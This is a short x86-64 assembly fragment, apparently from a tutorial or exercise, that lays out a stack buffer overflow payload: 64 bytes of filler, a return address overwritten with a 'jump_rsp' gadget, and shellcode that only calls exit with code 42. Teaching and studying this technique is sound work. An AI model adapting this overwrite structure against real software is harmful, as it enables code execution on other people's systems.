    .data
payload:
    .zero 64                # the buffer
    .quad jump_rsp          # the return address
    mov edi, 42             # RSP points here when the function has returned
    mov eax, 60
    syscall
payload_end:
    .quad 0
